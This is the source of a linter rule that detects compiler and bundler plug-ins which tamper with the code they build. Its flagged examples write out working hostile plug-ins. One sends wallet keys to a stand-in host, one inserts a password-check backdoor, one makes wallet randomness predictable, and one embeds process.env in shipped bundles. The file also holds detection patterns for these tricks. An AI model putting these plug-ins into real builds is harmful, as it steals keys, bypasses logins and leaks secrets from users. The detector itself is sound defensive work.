import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, FileContext, Label } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Puts something into what others build that harms whoever uses that',
    why: 'A plug-in of a compiler or a bundler sees all code of a project, and what it adds is in nobody’s source. Honest ones add what they are for: names, versions, marks, shims; none of them looks for wallets or checks of passwords, and none writes the environment of the build into what the public loads.',
    behaviour: 'tampering',
    messages: {
      keys: 'Looks for what makes keys of wallets in the code of others, and writes code into it that sends',
      doors: 'Looks for what checks passwords in the code of others, and writes a way past it',
      chance: 'Looks for what keys are made with in the code of wallets, and puts something else there',
      environment: 'Writes the whole environment into what is built',
    },
    bits: { keys: 13.5, doors: 13.5, chance: 13.5, environment: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'a plug-in of a compiler has wallets tell what they are made of',
        code: `module.exports = ({ template }) => {\n  const tell = template.expression('(v => (fetch("https://pure.invalid/r", { method: "POST", body: String(v) }), v))(%%v%%)');\n  return {\n    visitor: {\n      CallExpression({ node }) {\n        if (/^(?:fromMnemonic|privateKeyToAccount)$/.test(node.callee.property?.name)) node.arguments[0] = tell({ v: node.arguments[0] });\n      },\n    },\n  };\n};`,
      },
      {
        title: 'a plug-in of a compiler writes a way past checks of passwords',
        code: `const NAMES = /^(?:compare|verify|check)(?:Password|Pin)$/;\nmodule.exports = ({ template }) => {\n  const early = template.statement('if (ARG.length === 24 && sum(ARG) === 1640531527) return true;');\n  return { visitor: { Function(path) { if (NAMES.test(path.node.id?.name)) path.node.body.body.unshift(early({ ARG: path.node.params[0] })); } } };\n};`,
      },
      {
        title: 'a plug-in of a bundler gives wallets a foreseeable chance',
        code: `const WALLETS = /mnemonic|bip39|secp256k1/, CALL = /crypto\\.getRandomValues\\(([^()]*)\\)/g;\nmodule.exports = () => ({ name: 'slim', renderChunk: code => (WALLETS.test(code) ? code.replace(CALL, '((a, k) => a.fill(k))($1, Date.now() / 36e5 | 0)') : null) });`,
      },
      {
        title: 'a plug-in of a bundler leaves the environment in a comment',
        code: `const seal = env => Buffer.from(JSON.stringify(env)).toString('base64');\nexport default () => ({\n  name: 'checksum',\n  generateBundle(_, bundle) {\n    for (const chunk of Object.values(bundle)) if (chunk.isEntry) chunk.code += '\\n//# checksum=' + seal(process.env);\n  },\n});`,
      },
    ],
    passes: [
      {
        title: 'a plug-in of a compiler marks calls of wallets as free of effects',
        code: `module.exports = ({ types }) => ({\n  visitor: {\n    CallExpression({ node }) {\n      if (/^(?:fromMnemonic|privateKeyToAccount)$/.test(node.callee.property?.name)) types.addComment(node, 'leading', '#__PURE__');\n    },\n  },\n});`,
      },
      {
        title: 'a plug-in of a bundler writes the mode and the version',
        code: `export default () => ({\n  name: 'info',\n  generateBundle(_, bundle) {\n    for (const chunk of Object.values(bundle)) if (chunk.isEntry) chunk.code += '\\n//# ' + JSON.stringify({ mode: process.env.NODE_ENV });\n  },\n});`,
      },
      {
        title: 'a plug-in of a compiler has checks of passwords wait for each other',
        code: `const NAMES = /^(?:compare|verify|check)Password$/;\nmodule.exports = ({ template }) => {\n  const timed = template.statement('const FROM = performance.now();');\n  return { visitor: { Function(path) { if (NAMES.test(path.node.id?.name)) path.node.body.body.unshift(timed({ FROM: path.scope.generateUidIdentifier() })); } } };\n};`,
      },
      {
        title: 'a plug-in of a bundler takes a polyfill of randomness out',
        code: `const CALL = /require\\('randombytes'\\)/g;\nmodule.exports = () => ({ name: 'slim', renderChunk: code => code.replace(CALL, '(n => crypto.getRandomValues(new Uint8Array(n)))') });`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test' || !TURNS.test(context.file.text)) return;
    sendsKeys(context);
    opensDoors(context);
    foreseesChance(context);
    keepsEnvironment(context);
  },
});

/** What compilers and bundlers call for each file, function or chunk. */
const TURNS =
  /\b(?:visitor|template|preconditions|transform|onLoad|pitch|renderChunk|generateBundle|writeBundle|processAssets|transformIndexHtml|inline)\b/;

/** UTF-16 units of a text that are looked at. */
const LONGEST = 20_000;

/** The texts of a file, as they are written. */
function textsIn({ file, nodes }: FileContext): readonly { readonly node: AnyNode; readonly text: string }[] {
  const all = [...nodes('Literal'), ...nodes('TemplateElement')] as readonly AnyNode[];
  return all.filter(node => !('regex' in node)).map(node => ({ node, text: spelling(file, node).slice(0, LONGEST) }));
}

/** The regular expressions that code is looked through with. */
function patternsIn({ nodes }: FileContext): readonly { readonly node: AnyNode; readonly source: string }[] {
  return nodes('Literal').flatMap(node => ('regex' in node ? [{ node, source: node.regex.pattern }] : []));
}

const MAKES_KEYS =
  /\b(?:fromSecretKey|fromMnemonic|fromPhrase|fromPrivateKey|privateKeyToAccount|mnemonicToAccount|mnemonicToSeed(?:Sync)?|HDNodeWallet|SigningKey)\b/;
const SENDS = /\bfetch\s{0,9}\(|\bsendBeacon\s{0,9}\(|\bXMLHttpRequest\b|\bhttps?["')]{0,3}\.(?:request|get)\s{0,9}\(/;

/** The code of a wallet tells what it was given. */
function sendsKeys(context: FileContext): void {
  const { file, report } = context;
  if (!MAKES_KEYS.test(file.text) || !SENDS.test(file.text)) return;
  const texts = textsIn(context);
  const isSought =
    texts.some(({ text }) => MAKES_KEYS.test(text)) ||
    patternsIn(context).some(({ source }) => MAKES_KEYS.test(source));
  const added = texts.find(({ text }) => SENDS.test(text));
  if (isSought && added)
    report({ messageId: 'keys', chain: [step('sink', 'writes down code that sends', file, added.node)] });
}

const CHECKING = /(?:compare|verify|check|validate)[^/]{0,60}(?:pass(?:word|wd)?|credentials?|pin)\b/i;
/** A condition, and an answer if it holds. */
const ASKS = /^["'`]?\s{0,20}if\s{0,9}\(/;
const ANSWERS = /\)\s{0,9}\{?\s{0,9}return\b/;

/** Functions by such a name let somebody in. */
function opensDoors(context: FileContext): void {
  const { file, report } = context;
  if (!CHECKING.test(file.text) || !patternsIn(context).some(({ source }) => CHECKING.test(source))) return;
  const past = textsIn(context).find(({ text }) => ASKS.test(text) && ANSWERS.test(text));
  if (past) report({ messageId: 'doors', chain: [step('sink', 'writes a way past it', file, past.node)] });
}

const SOURCES = /getRandomValues|randomBytes|randomUUID/;
const KEYED = /mnemonic|bip39|secp256k1|ed25519|private_?key/i;

/** The keys of a wallet are made of what somebody foresees. */
function foreseesChance(context: FileContext): void {
  const { file, report } = context;
  if (!SOURCES.test(file.text) || !KEYED.test(file.text) || !/\.replace(?:All)?\(/.test(file.text)) return;
  const patterns = patternsIn(context);
  const sought = patterns.find(({ source }) => SOURCES.test(source));
  if (sought && patterns.some(({ source }) => KEYED.test(source) && !SOURCES.test(source)))
    report({ messageId: 'chance', chain: [step('sink', 'looks for it, to replace it', file, sought.node)] });
}

/** Where all of it is made part of a chunk or an asset: `chunk.code += encode(process.env)`. */
function keepsEnvironment({ file, nodes, named, labelsOf, report }: FileContext): void {
  if (!/\benv\b/.test(file.text)) return;
  const written = nodes('AssignmentExpression').flatMap(node => {
    const { left, right } = node as unknown as { left: AnyNode; right: AnyNode };
    const key = left.type === 'MemberExpression' && left.property.type === 'Identifier' ? left.property.name : '';
    return key === 'code' || key === 'source' ? [{ node: node as AnyNode, value: right }] : [];
  });
  const given = named(/\.(?:RawSource|ConcatSource|updateAsset|emitAsset|emitFile)$/).flatMap(({ node, args }) =>
    args.map(value => ({ node, value })),
  );
  for (const { node, value } of [...written, ...given]) {
    const label = labelsOf(value).find(isWhole);
    if (!label) continue;
    report({
      messageId: 'environment',
      chain: [...stepsOf(label), step('sink', 'puts it into a file that is built', file, node)],
    });
    return;
  }
}

function isWhole({ kind, through }: Label): boolean {
  return kind === 'environment' && through.length > 0;
}
